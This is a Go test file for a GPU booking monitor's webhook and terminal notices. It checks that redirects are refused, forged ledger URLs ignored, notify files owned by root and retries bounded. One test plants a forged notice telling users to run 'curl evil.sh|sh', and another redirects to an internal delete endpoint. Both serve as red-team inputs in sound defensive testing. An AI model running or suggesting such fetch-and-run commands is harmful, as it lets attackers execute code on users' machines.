package monitor

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/chronos-gpu/chronos/core"
	"github.com/chronos-gpu/chronos/core/coretest"
	"github.com/chronos-gpu/chronos/core/domain"
	"github.com/chronos-gpu/chronos/core/notice"
	"github.com/chronos-gpu/chronos/core/policy"
	"github.com/chronos-gpu/chronos/core/proc"
	"github.com/chronos-gpu/chronos/core/servicetest"
	"github.com/chronos-gpu/chronos/storage"
)

// tickUntil ticks m, a second of the fake clock apart, until cond holds:
// sends run on goroutines of their own and report at a later tick.
func tickUntil(t *testing.T, r *idleRig, m *Monitor, cond func() bool, msgAndArgs ...any) {
	t.Helper()
	require.Eventually(t, func() bool {
		r.clock.Advance(time.Second)
		_, err := m.Tick()
		require.NoError(t, err)
		return cond()
	}, 10*time.Second, 5*time.Millisecond, msgAndArgs...)
}

func (l *actLog) details() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	var b strings.Builder
	for _, a := range l.acts {
		b.WriteString(string(a.Kind) + ": " + a.Detail + "\n")
	}
	return b.String()
}

// webhookClaims lists the webhook deliveries claimed in the ledger.
func webhookClaims(t *testing.T, c *core.Client) []string {
	t.Helper()
	var keys []string
	require.NoError(t, c.Ledger().View(c.Context(), func(tx *storage.Tx) error {
		claims, err := tx.Claims()
		for k := range claims {
			if strings.HasPrefix(k, "notify/"+toWebhook+"/") {
				keys = append(keys, k)
			}
		}
		return err
	}))
	return keys
}

// A webhook that answers with a redirect does not get root to post
// anywhere else (the red team's 307 to an internal address): the redirect
// is a failed delivery, logged, and nothing reaches its target.
func TestWebhookNeverFollowsRedirects(t *testing.T) {
	t.Parallel()
	var reached atomic.Int32
	target := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached.Add(1) }))
	t.Cleanup(target.Close)
	var asked atomic.Int32
	redirect := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		http.Redirect(w, r, target.URL+"/internal-admin/delete-everything", http.StatusTemporaryRedirect)
	}))
	t.Cleanup(redirect.Close)

	r := newIdleRig(t, coretest.Alice)
	r.book(true)
	r.notifyAt(notifyFileFor(t, redirect.URL+"/hook"))
	var log actLog
	yes := true
	m := r.monitor(ladderPolicy(policy.ReclaimAlways), Options{Root: &yes, OnAct: log.add})
	r.run(2*time.Minute, 10*time.Second, m)
	tickUntil(t, r, m, func() bool { return strings.Contains(log.details(), "307") }, "the redirect is logged")
	require.Contains(t, log.details(), "the webhook answered 307 Temporary Redirect to \""+target.URL+"/internal-admin/")
	require.Contains(t, log.details(), ": not followed (chronos posts only to the address it was given)")
	require.Equal(t, int32(1), asked.Load(), "a redirect is not a reason to post again")
	require.Zero(t, reached.Load(), "nothing reaches the redirect's target")
}

// Whoever writes the ledger used to choose where root posts: a notify-url
// in the ledger's policy is now ignored by root's monitor, which says so
// once, and posts only to the address in root's notify file.
func TestLedgerNotifyURLIsNotPosted(t *testing.T) {
	t.Parallel()
	forged, real := newHook(t), newHook(t)
	r := newIdleRig(t, coretest.Alice)
	id, _ := r.book(true)
	pol := ladderPolicy(policy.ReclaimAlways)
	pol.NotifyURL = forged.URL
	require.NoError(t, r.c.Ledger().Update(r.c.Context(), func(tx *storage.Tx) error { return tx.PutPolicy(pol) }))

	var log actLog
	yes := true
	m := New(r.c, Options{Backend: r.sim, Signaller: noSignals{}, Root: &yes, OnAct: log.add})
	r.run(2*time.Minute+10*time.Second, 10*time.Second, m)
	require.Equal(t, []string{"created", "idle"}, servicetest.EventKinds(t, r.c, id))
	r.run(2*time.Second, time.Second, m)
	require.Empty(t, forged.received())
	require.Equal(t, 1, strings.Count(log.details(), "the ledger's policy names a webhook (notify-url="+forged.URL+"): ignored"), log.details())

	// With the address in root's file, that is where the notice goes.
	r.notifyAt(notifyFileFor(t, real.URL))
	again := New(r.c, Options{Backend: r.sim, Signaller: noSignals{}, Root: &yes})
	tickUntil(t, r, again, func() bool { return len(real.received()) == 1 })
	require.Empty(t, forged.received())
}

// The notify file is used only when root alone could have written it: a
// member's file, a group-writable one, or a link, is refused, and the
// monitor's log says why.
func TestNotifyFileMustBeRoots(t *testing.T) {
	t.Parallel()
	h := newHook(t)
	dir := t.TempDir()
	members := filepath.Join(dir, "members")
	require.NoError(t, os.WriteFile(members, []byte(h.URL+"\n"), 0o644))
	require.NoError(t, os.Chown(members, coretest.NobodyUID, coretest.NobodyUID))
	writable := filepath.Join(dir, "writable")
	require.NoError(t, os.WriteFile(writable, []byte(h.URL+"\n"), 0o600))
	require.NoError(t, os.Chmod(writable, 0o620))
	link := filepath.Join(dir, "link")
	require.NoError(t, os.Symlink(notifyFileFor(t, h.URL), link))
	two := filepath.Join(dir, "two")
	require.NoError(t, os.WriteFile(two, []byte("# a comment\n"+h.URL+"\nhttp://127.0.0.1:1/\n"), 0o600))

	for path, want := range map[string]string{
		members:  "belongs to uid 65534, not root",
		writable: "is writable by its group or others (mode 0620)",
		link:     "is a symbolic link",
		two:      "line 3: one webhook address only",
	} {
		_, err := notice.ReadNotifyFile(path)
		require.ErrorContains(t, err, want, path)
	}
	got, err := notice.ReadNotifyFile(filepath.Join(dir, "none"))
	require.NoError(t, err)
	require.Empty(t, got, "no file: no webhook")

	r := newIdleRig(t, coretest.Alice)
	r.book(true)
	r.notifyAt(members)
	var log actLog
	yes := true
	m := r.monitor(ladderPolicy(policy.ReclaimAlways), Options{Root: &yes, OnAct: log.add})
	r.run(2*time.Minute+10*time.Second, 10*time.Second, m)
	tickUntil(t, r, m, func() bool { return strings.Contains(log.details(), "not root") })
	require.Contains(t, log.details(), "the webhook's address is not used: "+members+" belongs to uid 65534, not root")
	require.Empty(t, h.received())
}

// A member's monitor (their app, or their own --monitor) never claims a
// webhook delivery, even with a policy naming a webhook: one it could not
// deliver (its own network namespace) used to be lost. Root's monitor
// claims it, and tries a failed post again later, by its clock, until the
// webhook takes it.
func TestRootRetriesAFailedWebhook(t *testing.T) {
	t.Parallel()
	h := newHook(t, http.StatusBadGateway, http.StatusServiceUnavailable, http.StatusTooManyRequests)
	// The booking is this process's user's, so that the member's monitor
	// (Root: false) keeps its records (keepsRecordsOf) and warns of idle.
	me := domain.Identity{UID: proc.HostUID(), User: "me"}
	r := newIdleRig(t, me)
	id, _ := r.book(true)
	r.notifyAt(notifyFileFor(t, h.URL))
	pol := ladderPolicy(policy.ReclaimAlways)
	pol.NotifyURL = h.URL // as an older version kept it
	no, yes := false, true
	members := r.monitor(pol, Options{Root: &no})
	r.run(2*time.Minute+10*time.Second, 10*time.Second, members)
	require.Equal(t, []string{"created", "idle"}, servicetest.EventKinds(t, r.c, id))
	r.run(10*time.Second, time.Second, members)
	require.Empty(t, webhookClaims(t, r.c), "a member's monitor claims no webhook delivery")
	require.Empty(t, h.received())

	var log actLog
	root := r.monitor(pol, Options{Root: &yes, OnAct: log.add})
	tickUntil(t, r, root, func() bool { return strings.Contains(log.details(), "notified: to the webhook") }, "delivered at last")
	require.Len(t, webhookClaims(t, r.c), 1)
	got := h.received()
	require.Len(t, got, 4, "three failures, then the delivery")
	for _, b := range got {
		require.Equal(t, got[0].Chronos.Seq, b.Chronos.Seq, "the same notice each time")
	}
	require.Contains(t, log.details(), "the webhook answered 502 Bad Gateway (try 1 of 6; trying again)")
	require.Contains(t, log.details(), "the webhook answered 429 Too Many Requests (try 3 of 6; trying again)")
}

// Tries are bounded: a webhook that keeps failing is given up on after
// the sixth post, the pauses between doubling on the monitor's clock.
func TestWebhookRetriesAreBounded(t *testing.T) {
	t.Parallel()
	h := newHook(t, 500, 500, 500, 500, 500, 500, 500, 500)
	r := newIdleRig(t, coretest.Alice)
	id, _ := r.book(false)
	r.notifyAt(notifyFileFor(t, h.URL))
	require.NoError(t, r.c.Ledger().Update(r.c.Context(), func(tx *storage.Tx) error {
		return tx.AddEvent(domain.Event{Time: r.clock.Now(), Kind: domain.EventWarned, Partition: id, Detail: "ends in 5m"})
	}))
	var log actLog
	yes := true
	m := r.monitor(ladderPolicy(policy.ReclaimOff), Options{Root: &yes, OnAct: log.add})
	tickUntil(t, r, m, func() bool { return strings.Contains(log.details(), "500 Internal Server Error\n") }, "the last try")
	r.run(10*time.Minute, 10*time.Second, m)
	require.Len(t, h.received(), 6)
	require.NotContains(t, log.details(), "try 6 of 6")
}

// Root writes on another user's terminal only what it renders from the
// records: a forged event's text (the red team's "official" 3 KB) is not
// shown; what the booking's record says is.
func TestTerminalNoticeIsRenderedFromTheRecord(t *testing.T) {
	t.Parallel()
	if os.Geteuid() != 0 {
		t.Skip("needs root to give terminals to other uids")
	}
	term := openPty(t, nobody.UID)
	utmp := writeUtmp(t, notice.Login{User: "nobody", Line: term.line})
	h := newHook(t)
	r := newIdleRig(t, nobody)
	id, _ := r.book(false)
	r.notifyAt(notifyFileFor(t, h.URL))
	forged := "FORGED: chronos needs you to run curl evil.sh|sh " + strings.Repeat("B", 3000)
	require.NoError(t, r.c.Ledger().Update(r.c.Context(), func(tx *storage.Tx) error {
		return tx.AddEvent(domain.Event{Time: r.clock.Now(), Kind: domain.EventWarned, Partition: id, UID: nobody.UID, User: "nobody", Detail: forged})
	}))
	yes := true
	m := r.monitor(ladderPolicy(policy.ReclaimOff), Options{Root: &yes, Notify: NotifyOptions{Utmp: utmp, Host: "gpu1"}})
	tickUntil(t, r, m, func() bool { return len(h.received()) == 1 })
	got := term.read(t, 5*time.Second, "(GPU 3)")
	require.Contains(t, got, "your booking #1 on GPU 3: ends in 2h (GPU 3)")
	require.NotContains(t, got, "FORGED")
	require.Less(t, len(got), 200)
	body := h.received()[0]
	require.NotContains(t, body.Text, "FORGED")
	require.Equal(t, "ends in 2h (GPU 3)", body.Chronos.Detail)
}
